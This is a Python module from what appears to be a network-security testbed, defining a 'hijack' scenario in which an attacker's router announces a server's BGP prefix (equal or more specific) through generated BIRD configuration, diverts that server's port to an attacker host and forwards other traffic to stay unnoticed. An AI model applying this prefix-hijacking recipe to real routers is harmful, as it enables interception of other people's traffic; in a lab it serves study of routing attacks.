"""The attacker's router announces by BGP (RFC 4271) the prefix of a server, so that packets for it come to him.

An equal prefix is believed where the way to him is shorter than that to the server's system; of a more specific one,
here the half in which the server is, every router is convinced that hears it. `near` bounds who does: the network of
that host, which tells nobody (NO_EXPORT, RFC 1997); without it, everybody whom he meets. What arrives for the server's
port goes to the attacker's server; all else he sends on to where it belongs, so that nothing else gives him away.
"""

from collections.abc import Iterator
from ipaddress import ip_network

from mecai.errors import InputError
from testbed.model import interdomain
from testbed.model.interdomain import Neighbour, Prefix
from testbed.scenarios import packets, routing
from testbed.scenarios.arena import Arena
from testbed.scenarios.hosts import must
from testbed.scenarios.means.mean import Arguments, Mean, Parameter

_EQUAL, _SPECIFIC = "equal", "specific"
_CONFIGURE = ["birdc", "configure"]
# `import` of a static route is the way into BIRD's own table; the communities go out with it.
_ROUTE = """\
protocol static {name}_{family} {{
    {family} {{
        import filter {{
{communities}            accept;
        }};
    }};
    route {prefix} via {owner};
}}
"""
_NO_EXPORT = "            bgp_community.add((65535, 65281));\n"
# What the role bgp_router keeps from a neighbour.
_WITHHELD = "            bgp_large_community.add(({own}, 4, {neighbour}));\n"


def _check(arena: Arena, arguments: Arguments) -> None:
    """Find the systems that it needs where the attacker's meets them; raises `InputError`."""
    _owner(arena, arguments)
    _told(arena, arguments)


def _start(arena: Arena, arguments: Arguments) -> None:
    router = arguments["by"]
    packets.divert(
        arena, router, _name(arguments), server=arguments["prefix_of"], to=arguments["to"], port=arguments["port"]
    )
    must(arena.run, router, ["tee", _file(arguments)], "".join(_settings(arena, arguments)))
    must(arena.run, router, _CONFIGURE)
    _wait(arena, arguments, heard=True)


def _stop(arena: Arena, arguments: Arguments) -> None:
    router = arguments["by"]
    must(arena.run, router, ["rm", "--force", _file(arguments)])
    must(arena.run, router, _CONFIGURE)
    _wait(arena, arguments, heard=False)
    packets.remove(arena, router, _name(arguments))


def _name(arguments: Arguments) -> str:
    return f"hijack_{arguments['near'] or 'everywhere'}_{arguments['prefix']}".replace("-", "_")


def _file(arguments: Arguments) -> str:
    return f"/etc/bird/added/{_name(arguments)}.conf"


def _settings(arena: Arena, arguments: Arguments) -> Iterator[str]:
    """Yield what BIRD is given, for each family."""
    owner, told = _owner(arena, arguments), _told(arena, arguments)
    others = sorted({each.system for each in _met(arena, arguments)} - {each.system for each in told})
    communities = "".join(_WITHHELD.format(own=_system(arena, arguments), neighbour=each) for each in others)
    communities += _NO_EXPORT if arguments["near"] else ""
    for family, prefix, hop in zip(
        ("ipv4", "ipv6"), _prefixes(arena, arguments), (owner.ipv4, owner.ipv6), strict=True
    ):
        yield _ROUTE.format(name=_name(arguments), family=family, communities=communities, prefix=prefix, owner=hop)


def _prefixes(arena: Arena, arguments: Arguments) -> list[Prefix]:
    """Return what is announced, IPv4 and IPv6: a prefix of the server's system, or the half of it with the server."""
    server = arguments["prefix_of"]
    equal = interdomain.announced(arena.plan, arena.plan.topology.host(server).zone)
    if arguments["prefix"] == _EQUAL:
        return list(equal)
    pairs = zip(equal, arena.plan.addresses(server), strict=True)
    return [ip_network((address, prefix.prefixlen + 1), strict=False) for prefix, address in pairs]


def _met(arena: Arena, arguments: Arguments) -> list[Neighbour]:
    return list(interdomain.neighbours(arena.plan, arguments["by"]))


def _owner(arena: Arena, arguments: Arguments) -> Neighbour:
    """Return the router of the server's system, met by the attacker's: what he does not want is sent on there."""
    router = packets.router_of(arena, arguments["prefix_of"])
    for each in _met(arena, arguments):
        if each.name == router:
            return each
    raise InputError(
        f"{arguments['by']} meets {router} nowhere: expected the router of {arguments['prefix_of']} beside it"
    )


def _told(arena: Arena, arguments: Arguments) -> list[Neighbour]:
    """List the routers that hear it: that of `near`, else all; never the owner's, which takes its own from nobody."""
    owner, near = _owner(arena, arguments), arguments["near"]
    others = [each for each in _met(arena, arguments) if each != owner]
    if told := [each for each in others if not near or each.name == packets.router_of(arena, near)]:
        return told
    raise InputError(
        f"{arguments['by']} meets no router that would hear a prefix of {owner.name}, near {near or 'anybody'}"
    )


def _wait(arena: Arena, arguments: Arguments, *, heard: bool) -> None:
    """Wait until every router that is told has heard it, or that it is over."""
    for prefix in _prefixes(arena, arguments):
        for each in _told(arena, arguments):
            routing.wait(arena, each.name, prefix, _system(arena, arguments), heard=heard)


def _system(arena: Arena, arguments: Arguments) -> int:
    return arena.plan.topology.home(arena.plan.topology.host(arguments["by"])).system


MEAN = Mean(
    name="hijack",
    says="the attacker's router announces the prefix of a server by BGP, and gets what is sent there",
    parameters={
        "prefix_of": Parameter("host", "server"),
        "prefix": Parameter("word", _EQUAL, (_EQUAL, _SPECIFIC)),
        "near": Parameter("host", ""),
        "by": Parameter("host", "border"),
        "to": Parameter("host", "attacker"),
        "port": Parameter("number", 443),
    },
    check=_check,
    start=_start,
    stop=_stop,
)
